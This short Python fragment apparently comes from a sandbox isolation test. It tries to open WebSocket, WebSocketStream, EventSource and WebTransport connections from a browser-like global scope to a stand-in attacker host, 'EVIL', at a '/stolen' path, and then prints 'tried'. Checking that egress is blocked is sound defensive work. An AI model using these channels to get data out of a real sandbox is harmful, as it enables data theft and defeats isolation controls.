# Tries every other way to open a connection.
scope = await find_global()
SOCKET = EVIL.replace("http", "ws")
await attempt("WebSocket", lambda: scope.WebSocket.new(SOCKET + "/stolen"))
await attempt("WebSocketStream", lambda: scope.WebSocketStream.new(SOCKET + "/stolen").opened)
await attempt("EventSource", lambda: scope.EventSource.new(EVIL + "/stolen"))
await attempt("WebTransport", lambda: scope.WebTransport.new(EVIL.replace("http", "https")).ready)
await asyncio.sleep(0.5)
print("tried")
